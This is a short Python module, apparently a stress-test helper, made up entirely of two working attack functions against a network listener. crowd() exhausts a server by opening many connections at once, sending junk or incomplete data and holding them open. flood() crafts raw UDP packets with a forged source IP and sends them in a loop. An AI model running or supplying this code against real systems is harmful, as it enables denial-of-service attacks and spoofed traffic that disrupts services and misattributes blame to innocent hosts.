"""Attackers of a listener: a crowd of connections, and datagrams with a forged sender."""

from __future__ import annotations

import errno
import resource
import selectors
import socket
import struct
import time
from contextlib import suppress


def crowd(address: str, ports: list[int], connections: int, seconds: float) -> tuple[int, int]:
    """Open so many connections at once, talk garbage slowly, and hold on.

    Returns how many were made and how many bytes were answered in all.
    """
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, connections + 200), hard))
    selector = selectors.DefaultSelector()
    opened: set[socket.socket] = set()
    for number in range(connections):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((address, ports[number % len(ports)]))
        selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
    made = answered = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and selector.get_map():
        for key, _ in selector.select(0.1):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            try:
                if sock not in opened:
                    opened.add(sock)
                    error = sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                    made += error in (0, errno.ECONNRESET)  # reset: made, and turned away
                    # A third says nothing, a third a word without an end, a third a lot.
                    sock.send((b"", b"veeamcheck-prober 1 ", b"\xff" * 4000)[made % 3])
                    selector.modify(sock, selectors.EVENT_READ)
                received = sock.recv(65536)
            except BlockingIOError:
                continue
            except OSError:
                received = b""
            answered += len(received)
            if not received:
                selector.unregister(sock)
                sock.close()
    for key in list(selector.get_map().values()):
        with suppress(OSError):
            key.fileobj.close()  # type: ignore[union-attr]
    return made, answered


def flood(target: str, port: int, forged: str, payload: bytes, count: int) -> None:
    """Send datagrams that claim to come from `forged`."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    udp = struct.pack("!HHHH", 4242, port, 8 + len(payload), 0) + payload
    ends = socket.inet_aton(forged) + socket.inet_aton(target)
    packet = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0) + ends + udp
    with raw:
        for _ in range(count):
            with suppress(OSError):
                raw.sendto(packet, (target, 0))
